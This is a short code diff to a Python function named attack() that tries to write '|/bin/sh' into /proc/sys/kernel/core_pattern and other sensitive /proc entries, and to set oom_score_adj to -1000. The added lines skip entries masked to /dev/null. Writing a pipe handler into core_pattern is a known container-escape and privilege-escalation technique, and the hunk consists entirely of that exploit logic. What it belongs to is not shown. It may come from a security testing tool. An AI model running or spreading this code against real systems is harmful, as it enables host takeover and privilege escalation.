@@ -23,6 +23,8 @@ def attack(inputs):
     for path in ("/proc/sys/kernel/core_pattern", "/proc/self/attr/exec", "/proc/1/attr/current", "/proc/self/oom_score_adj"):
         try:
             handle = os.open(path, os.O_WRONLY)
+            if os.fstat(handle).st_rdev == os.stat("/dev/null").st_rdev:
+                continue  # masked
             os.write(handle, b"-1000" if path.endswith("adj") else b"|/bin/sh")
             found.append(path)
         except OSError:
